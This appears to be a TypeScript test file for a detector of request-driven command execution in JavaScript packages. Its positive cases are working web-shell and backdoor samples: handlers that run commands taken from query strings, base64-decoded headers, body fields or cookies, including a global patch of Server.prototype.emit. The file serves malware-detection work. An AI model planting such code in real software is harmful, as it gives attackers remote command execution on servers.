import { loaded, testDetector } from "../../test/test-detector.ts";
import { requestCommand } from "./index.ts";

testDetector(requestCommand, {
  fires: {
    "a route with a command in its query": [
      "strong",
      loaded(`const { execSync } = require("child_process");
        module.exports = (app) => app.get("/status", (request, response) => response.send(execSync(request.query.c).toString()));`),
    ],
    "a header that is decoded": [
      "strong",
      loaded(
        `module.exports = (req, res) => res.end(require("child_process").execSync(Buffer.from(req.headers["x-run"], "base64").toString()));`,
      ),
    ],
    "a body's member": [
      "strong",
      loaded(`const cp = require("child_process");
        module.exports = (q, s) => { cp.exec(q.body.run, (error, out) => s.end(out)); };`),
    ],
    "a header that is decoded before": [
      "strong",
      loaded(`const { exec } = require("child_process");
        module.exports = () => (request, response, next) => {
          const tag = request.headers["x-cache-tag"];
          if (tag) return exec(Buffer.from(tag, "base64").toString(), (error, out) => response.end(out));
          next();
        };`),
    ],
    "every server's requests": [
      "strong",
      loaded(`const { Server } = require("http"), { exec } = require("child_process"), { emit } = Server.prototype;
        Server.prototype.emit = function (name, request, response) {
          const { cookies } = request;
          if (name === "request" && cookies.run) exec(cookies.run, (error, out) => response.end(out));
          return emit.apply(this, arguments);
        };`),
    ],
  },
  silent: {
    "headers of settings among the arguments of a program of its own":
      loaded(`const { spawn } = require("child_process");
        exports.run = (args, settings) => {
          const extra = Object.entries(settings.headers).flatMap(([name, value]) => ["--header", name + ":" + value]);
          return spawn(locate(), [...extra, ...args]);
        };`),
    "a command of its own with a word of a request": loaded(`const { execFile } = require("child_process");
      module.exports = (request, done) => execFile("git", ["log", request.query.ref], done);`),
    "a command that its caller names": loaded(
      `module.exports = (options) => require("child_process").exec(options.command);`,
    ),
  },
});
